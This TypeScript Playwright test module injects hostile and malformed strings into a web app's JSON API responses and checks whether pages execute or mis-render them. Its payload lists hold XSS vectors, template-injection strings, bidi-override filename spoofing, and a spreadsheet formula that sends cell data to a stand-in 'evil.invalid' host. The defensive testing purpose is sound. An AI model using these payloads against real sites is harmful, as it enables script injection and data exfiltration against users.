/** Texts of people who mean ill, put wherever the pages are told a text. */
import type { Page, Route } from 'playwright-core';

/** Stands in each of them, so that a page can be asked whether it shows it as it is. */
export const mark = 'qzx';

/** Would run, break out of an attribute, be filled by a template, or read another way than it was written. */
export const markup: readonly string[] = [
  `${mark}<img src=x onerror="window.hurt='img'"><script>window.hurt='script'</script>`,
  `${mark}"><svg onload="window.hurt='svg'">' onmouseover='window.hurt=1' <marquee>`,
  `javascript:window.hurt='link'//${mark}`,
  `${mark} {name} {count, plural, one {# x} other {#}} {{ title }} {% include "x" %} \${7*7} <b>`,
  `${mark}</script></style></textarea><iframe srcdoc="<script>parent.hurt='frame'</script>"></iframe>`,
  `=HYPERLINK("http://evil.invalid/?"&A1,"${mark}")`,
];
/** Turns the direction of writing, joins, piles up, is not there. */
export const odd: readonly string[] = [
  `\u202E${mark} fdp.exe \u2066\u2067 never closed`,
  `${mark} \u05E9\u05DC\u05D5\u05DD \u0645\u0631\u062D\u0628\u0627 \u202B right`,
  `${mark}👩‍👩‍👧‍👧🏴󠁧󠁢󠁥󠁮󠁧󠁿${'👾'.repeat(60)}`,
  `${mark}${`z${'\u0335\u0321\u0322\u0323\u0324\u0325'.repeat(6)}`.repeat(20)}`,
  `\u200B\u200D\uFEFF${mark}\u00AD\u2028\u2029\u0085 nothing`,
  `${mark} % %s %n \\u0000 \u2400 NULL undefined NaN [object Object] __proto__`,
];
/** Both in every text, so that one walk over the pages shows what either does. */
export const markupAndOdd: readonly string[] = markup.map((text, at) => `${text} ${odd[at % odd.length]}`);
/** Ten thousand letters without a place to break. */
export const long: readonly string[] = [`${mark}${'Donaudampfschiff'.repeat(620)}`];

/** What people write has words apart; codes, ids, days and addresses of our own have not. XML that came is well-formed. */
const isText = (name: string, value: string): boolean =>
  (/\s/.test(value) && !/^(place|csrf|etag|xml|confirmationXml)$/.test(name)) || fieldsOfPeople.has(name);
/** Fields that people fill, also with a single word. */
const fieldsOfPeople = new Set(
  (
    'title author titleOfComponent authorOfComponent publisher edition volume issue pages note text name label french ' +
    'callNumber barcode email line1 line2 locality postalCode region description link url homepage requester subject ' +
    'temporaryBarcode courier trackingNumber contact phone patronName shelf ownBarcode isbn issn comment'
  ).split(' '),
);

/** The same answer, with one of the texts in front of each text. */
export function poisoned(value: unknown, texts: readonly string[]): unknown {
  let at = 0;
  const next = () => texts[at++ % texts.length] as string;
  const walk = (name: string, each: unknown): unknown => {
    if (typeof each === 'string') return isText(name, each) ? next() : each;
    if (Array.isArray(each)) return each.map((inner) => walk(name, inner));
    if (typeof each !== 'object' || each === null) return each;
    return Object.fromEntries(Object.entries(each).map(([key, inner]) => [key, walk(key, inner)]));
  };
  return walk('', value);
}

/** Our own words, and the line that is never over, stay as they are. */
const ownAnswers = /\/(words|events|openapi\.json|session|site)(\/|\?|$)/;

/** From now on every text in an answer of that API is one of these. Gives how many answers were. */
export async function poison(page: Page, api: string, texts: () => readonly string[]): Promise<() => number> {
  let answers = 0;
  await page.route(`**${api}/**`, async (route: Route) => {
    const address = route
      .request()
      .url()
      .slice(route.request().url().indexOf(api) + api.length);
    if (route.request().method() !== 'GET' || ownAnswers.test(address)) return route.continue();
    const answer = await route.fetch().catch(() => undefined);
    if (!answer) return route.abort().catch(() => undefined);
    const type = answer.headers()['content-type'] ?? '';
    if (!/json/.test(type) || answer.status() !== 200)
      return route.fulfill({ response: answer }).catch(() => undefined);
    const body = await answer.text();
    answers += 1;
    const lines = /ndjson/.test(type) ? body.split('\n').filter(Boolean) : [body];
    const changed = lines.map((line) => JSON.stringify(poisoned(JSON.parse(line), texts())));
    await route
      .fulfill({ response: answer, body: `${changed.join('\n')}${lines.length > 1 ? '\n' : ''}` })
      .catch(() => undefined);
  });
  return () => answers;
}

/** What a page must never do, kept from its first moment on. */
export interface Watched {
  /** Everything that ran, was refused by the policy, or asked another machine. */
  harm(): Promise<string[]>;
}

export async function watchFor(page: Page, home: string): Promise<Watched> {
  const seen: string[] = [];
  page.on('dialog', (dialog) => {
    seen.push(`a dialog: ${dialog.message()}`);
    void dialog.dismiss();
  });
  page.on('request', (request) => {
    const url = request.url();
    if (!/^(data|blob):/.test(url) && new URL(url).origin !== home) seen.push(`a call to ${url}`);
    if (new URL(url).pathname === '/x') seen.push(`a call to ${url}`);
  });
  page.on('popup', (popup) => seen.push(`a window: ${popup.url()}`));
  await page.addInitScript(
    `window.refusedByPolicy = []; addEventListener('securitypolicyviolation', (event) => window.refusedByPolicy.push(event.violatedDirective + ' ' + event.blockedURI));`,
  );
  return {
    harm: async () => {
      const inside = (await page.evaluate(`(() => {
        const found = [];
        if (window.hurt !== undefined) found.push('ran: ' + window.hurt);
        if (Object.prototype.qzx !== undefined || ({}).polluted) found.push('a prototype was changed');
        for (const each of window.refusedByPolicy.splice(0)) found.push('refused: ' + each);
        for (const each of document.querySelectorAll('marquee, iframe, object, embed, img[src="x"], body script:not([src]):not([nonce]), [onerror], [onload], [onmouseover]'))
          found.push('an element: ' + each.outerHTML.slice(0, 120));
        for (const each of document.querySelectorAll('a[href], form[action], area[href]')) {
          const to = each.getAttribute('href') ?? each.getAttribute('action');
          if (/^\\s*(javascript|data|vbscript|file):/i.test(to)) found.push('a link: ' + to.slice(0, 80));
        }
        return found;
      })()`)) as string[];
      return [...seen.splice(0), ...inside];
    },
  };
}

/** Whether the page shows the mark, and what stands out beyond the window. */
export const shownOn = (page: Page): Promise<{ isShown: boolean; tooWide: number; wide: string }> =>
  page.evaluate(`(() => {
    const beyond = Math.max(0, document.documentElement.scrollWidth - innerWidth);
    let wide = '';
    if (beyond > 0) {
      for (const each of document.querySelectorAll('body *')) {
        const box = each.getBoundingClientRect();
        if (box.right > innerWidth + 1 && box.width > 0) { wide = each.tagName + '.' + String(each.className).slice(0, 60) + ' in ' + String(each.parentElement.className).slice(0, 60); break; }
      }
    }
    const inFields = [...document.querySelectorAll('input, textarea')].some((each) => each.value.includes('${mark}'));
    return { isShown: inFields || document.body.innerText.includes('${mark}'), tooWide: beyond, wide };
  })()`);
